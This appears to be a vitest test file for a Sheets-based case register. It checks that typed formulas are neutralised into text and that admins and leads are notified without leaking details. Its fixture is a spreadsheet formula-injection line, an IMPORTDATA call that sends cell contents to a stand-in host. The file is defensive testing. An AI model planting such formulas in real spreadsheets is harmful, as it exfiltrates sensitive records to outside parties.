/** A formula that a person typed becomes text at the next look, and no one's edit. Leads and admins are told, without anything from it. */
import { expect, test } from "vitest";
import { byHand } from "../day/damage";
import { Day } from "../day/day";
import { call, edit, editOf, minutes, noEditTrigger, reportOn, submit, tick } from "../day/events";
import { mails, recipients } from "../day/look";
import { admin, lead } from "../day/people";

const leaks = '=IMPORTDATA("https://a.example/?q="&Cases!H3)';
const told = (day: Day) => mails(day.out(), "formula-found");
const asked = (day: Day) => mails(day.out(), "typed-by-another");

/** The cells of a tab of the main register that hold a formula, as the sheet keeps them. */
function formulas(day: Day): readonly string[] {
  return day
    .register()
    .sheets.flatMap(({ properties, rows }) =>
      properties.title === "Summary"
        ? []
        : rows.flatMap((row) =>
            (row?.values ?? []).flatMap((value) =>
              typeof value === "object" && value !== null ? [value.formula] : [],
            ),
          ),
    );
}

const alex = reportOn("Alex Doe", "1001");

test.each<[object, ["cases" | "checklist", string?]]>([
  [edit({ notes: leaks }), ["cases"]],
  [tick(call, { notes: leaks }, "contact"), ["checklist", call]],
])("in notes: %j", async (event, where) => {
  const day = await Day.begin();
  day.play(alex, event);
  day.play(minutes(11));
  expect(formulas(day)).toEqual([]);
  const mails = told(day);
  expect(recipients(mails)).toEqual([admin, lead]);
  for (const { text, html } of mails)
    expect(`${text}${html}`).not.toMatch(/IMPORTDATA\(|a\.example|Alex/);
  const lines = day.out().activity.filter(({ what }) => what === "formula-made-text");
  expect(lines).toHaveLength(1);
  expect(JSON.stringify(lines)).not.toMatch(/IMPORT|Alex/);
  day.play({ advance: "PT2H" });
  expect(told(day)).toHaveLength(2);
  // The repair is no one's edit.
  expect(asked(day)).toEqual([]);
  // What was typed is kept as text, with a note, and accepted like any text.
  const [tab, key] = where;
  const row = day.rowOf(tab, "26-0001", key);
  expect(day.rows(tab).find(({ index }) => index === row)?.cells["notes"]).toBe(leaks);
  expect(day.note(tab, row, "notes")).toMatch(/formula/);
  expect(day.out().errors).toEqual([]);
});

test("where a value of its own kind belongs, it is put back at once", async () => {
  const day = await Day.begin();
  day.play(alex, edit({ nextCheckIn: leaks }));
  expect(formulas(day)).toEqual([]);
  expect(day.note("cases", day.rowOf("cases", "26-0001"), "nextCheckIn")).toMatch(/^Undone/);
});

test("in a tab of a person's own, whose title stands in no mail", async () => {
  const day = await Day.begin();
  day.play(alex);
  const gridProperties = { rowCount: 50, columnCount: 5 };
  const properties = { sheetId: 900, title: "About Alex Doe", gridProperties };
  const rows = [{ values: [{ userEnteredValue: { formulaValue: leaks } }] }];
  const start = { sheetId: 900, rowIndex: 7, columnIndex: 2 };
  byHand(day.workspace, [
    { addSheet: { properties } },
    { updateCells: { start, rows, fields: "userEnteredValue" } },
  ]);
  expect(formulas(day)).toEqual([leaks]);
  day.announce({ sheetId: 900, rowStart: 8, rowEnd: 8, columnStart: 3, columnEnd: 3 });
  day.play(minutes(11));
  expect(formulas(day)).toEqual([]);
  const [mail] = told(day);
  expect(mail?.text).toContain("A tab of your own, cell C8");
  expect(JSON.stringify(mail)).not.toContain("Alex");
});

test("an ordinary hour has no such line, and Summary keeps its formulas", async () => {
  const day = await Day.begin();
  day.play(alex, edit({ notes: "Spoke with the counselor: 2+2=4" }), minutes(130));
  expect(told(day)).toEqual([]);
  expect(JSON.stringify(day.tab("summary").sheet.rows)).toContain('"formula":"=');
});

test.each(["before", "after", "stop"] as const)(
  "a fault %s the write: told, and text an hour later at the latest",
  async (when) => {
    const day = await Day.begin();
    day.play(alex, edit({ notes: leaks }));
    const error = when === "stop" ? undefined : "Service unavailable";
    day.play({ fault: { call: "Sheets.Spreadsheets.get", nth: 2, when, error } }, minutes(130));
    expect(formulas(day)).toEqual([]);
    expect(told(day).length).toBeGreaterThanOrEqual(2);
  },
);

test("of an edit that no trigger told of; the next one is found too", async () => {
  const day = await Day.begin();
  day.playClean(alex, noEditTrigger, edit({ notes: leaks }), minutes(40));
  expect([formulas(day), told(day)]).toEqual([[], [expect.anything(), expect.anything()]]);
  day.playClean(tick(call, { notes: leaks }), minutes(40));
  expect([formulas(day), told(day)]).toEqual([[], expect.objectContaining({ length: 4 })]);
});

test("in a sealed register: within the hour, to its audience alone", async () => {
  const day = await Day.begin();
  const sealed = submit({ recipientMayBeInvolved: "contact" });
  day.playClean(sealed, minutes(10), editOf("26-0001", { notes: leaks }, "lead", "sealed"));
  day.playClean({ advance: "PT65M" });
  expect(told(day).map(({ to }) => to)).toEqual([[lead]]);
  day.playClean({ advance: "PT1H" });
  expect([told(day).length, asked(day)]).toEqual([1, []]);
});

test("two edits within minutes, around a look: both are found", async () => {
  const day = await Day.begin();
  day.playClean(alex, edit({ notes: "Seen." }), minutes(6), edit({ notes: leaks }), minutes(1));
  day.playClean(minutes(4), tick(call, { notes: leaks }), minutes(15));
  expect([formulas(day), asked(day)]).toEqual([[], []]);
});
